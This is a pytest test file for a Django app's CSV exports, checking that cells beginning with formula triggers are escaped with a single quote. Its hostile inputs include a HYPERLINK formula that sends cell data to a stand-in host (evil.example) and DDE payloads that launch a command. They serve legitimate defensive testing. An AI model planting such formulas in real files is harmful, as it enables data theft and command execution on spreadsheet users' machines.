"""CSV formula injection: no cell of any CSV export starts a spreadsheet formula.

Hostile text (a session title, display names, post texts, item ids, free-text labels, agent
names) goes through the real download views and the ``run_batch --out`` command; every text
cell starting with ``=``, ``+``, ``-``, ``@``, tab or carriage return comes out behind a single
quote, while numbers, including negative ones written as text, stay numbers.
"""

from __future__ import annotations

import csv
import io

import pytest
from django.core.management import call_command
from django.http import StreamingHttpResponse
from django.test import Client
from django.urls import reverse

from deliberation.annotation.models import Annotator, Item, Label, Project
from deliberation.csvsafe import safe_cell
from deliberation.debates import controls, services

pytestmark = pytest.mark.django_db(transaction=True)

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def _csv(response) -> list[list[str]]:
    assert response.status_code == 200, response
    assert isinstance(response, StreamingHttpResponse)
    text = b"".join(response.streaming_content).decode()
    return list(csv.reader(io.StringIO(text, newline="")))


def _cells(rows) -> list[str]:
    return [c for row in rows for c in row]


def _assert_defused(cells: list[str], present: list[str]) -> None:
    """No cell a spreadsheet would evaluate, and each of ``present`` kept behind a quote."""
    evaluated = [c for c in cells if c.startswith(TRIGGERS) and not _is_number(c)]
    assert not evaluated
    for h in present:
        assert "'" + h in cells, (h, cells)


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return text.strip() == text and text.lower() not in {"nan", "inf", "-inf", "+inf"}


def test_the_rule_cell_by_cell():
    for h in HOSTILE:
        assert safe_cell(h) == "'" + h
    for plain in ("-3.5", "+2", "-1e-3", "-.5", "0", "text", "", "a=b", "'=x"):
        assert safe_cell(plain) == plain
    for number in (-3.5, -2, 0, 7):
        assert safe_cell(number) == number
    assert safe_cell(None) is None
    assert safe_cell("-3.5 kg") == "'-3.5 kg"
    assert safe_cell("-") == "'-"


@pytest.fixture
def hostile_session(moderator, make_user):
    """A finished simultaneous session whose title, people and posts are hostile text."""
    session = services.create_session(
        moderator=moderator,
        title=HOSTILE[0],
        question="Is the sky blue?",
        options=["Yes", "No"],
        protocol="simultaneous",
        protocol_settings={"rounds": 1},
    )
    people = [
        services.join_session(make_user("@evil"), session.invite_token),
        services.join_session(make_user("-mallory"), session.invite_token),
    ]
    moderator_participant = session.participants.get(user=moderator)
    controls.control(moderator_participant, "start")
    services.submit_post(people[0], HOSTILE[1], answer="Yes", confidence=0.5)
    services.submit_post(people[1], "-3.5", answer="No", confidence=0.25)
    session.refresh_from_db()
    return session


@pytest.mark.parametrize("fmt", ["posts_csv", "answers_csv"])
def test_transcript_csv_downloads_quote_formulas(hostile_session, moderator, fmt):
    client = Client()
    client.force_login(moderator)
    for url in (
        reverse("transcripts:session_export", args=[hostile_session.pk, fmt]),
        reverse("transcripts:export", args=[fmt]),
    ):
        rows = _csv(client.get(url))
        cells = _cells(rows)
        expected = [HOSTILE[0], "@evil", "-mallory"]
        if fmt == "posts_csv":
            expected.append(HOSTILE[1])
            # A negative number written as text stays a number.
            assert "-3.5" in cells
        _assert_defused(cells, expected)
        header = rows[0]
        data = [dict(zip(header, r, strict=True)) for r in rows[1:]]
        assert {r["session_title"] for r in data} == {"'" + HOSTILE[0]}
        # Numbers stay numbers.
        assert {r["confidence"] for r in data if r["confidence"]} <= {"0.5", "0.25"}


@pytest.fixture
def hostile_projects(moderator, make_user):
    text = Project.objects.create(
        name="Free text",
        label_format="free_text",
        labels_per_item=1,
        owner=moderator,
    )
    numeric = Project.objects.create(
        name="Numbers", label_format="numeric", labels_per_item=1, owner=moderator
    )
    person = make_user("ann")
    for project, values in ((text, [HOSTILE[2], HOSTILE[3]]), (numeric, [-3.5, 2])):
        annotator = Annotator.objects.create(
            project=project, kind="person", user=person, name=person.username
        )
        for n, value in enumerate(values):
            item = Item.objects.create(
                project=project,
                external_id=HOSTILE[n],
                position=n,
                data={"text": "x"},
            )
            Label.objects.create(item=item, annotator=annotator, value=value)
    return text, numeric


@pytest.mark.parametrize("kind", ["labels_csv", "aggregated_csv"])
def test_annotation_csv_downloads_quote_formulas(hostile_projects, moderator, kind):
    text, numeric = hostile_projects
    client = Client()
    client.force_login(moderator)
    rows = _csv(client.get(reverse("annotation:export", args=[text.pk, kind])))
    _assert_defused(_cells(rows), [HOSTILE[0], HOSTILE[1], HOSTILE[2], HOSTILE[3]])

    rows = _csv(client.get(reverse("annotation:export", args=[numeric.pk, kind])))
    labels = [r[-1] if kind == "labels_csv" else r[1] for r in rows[1:]]
    assert labels[0] == "-3.5" and float(labels[0]) == -3.5  # still a number


def test_run_batch_out_csv_quotes_formulas(tmp_path, moderator, simulated_agent):
    names = [HOSTILE[0], HOSTILE[3], "Plain"]
    for n, name in enumerate(names):
        simulated_agent(name=name, seed=n + 1)
    questions = tmp_path / "questions.csv"
    with questions.open("w", newline="") as fh:
        writer = csv.writer(fh)
        writer.writerow(["question", "options", "gold"])
        for i in range(2):
            writer.writerow([f"Question {i}?", "a|b", "a"])
    out = tmp_path / "table.csv"
    call_command(
        "run_batch",
        str(questions),
        "--protocol",
        "vote_only",
        "--agents",
        *names,
        "--user",
        moderator.username,
        "--local",
        "--out",
        str(out),
        stdout=io.StringIO(),
    )
    with out.open(newline="") as fh:
        cells = _cells(csv.reader(fh))
    _assert_defused(cells, [])
    assert any(c.startswith("'=HYPERLINK") for c in cells), cells
    assert any(c.startswith("'@SUM") for c in cells), cells
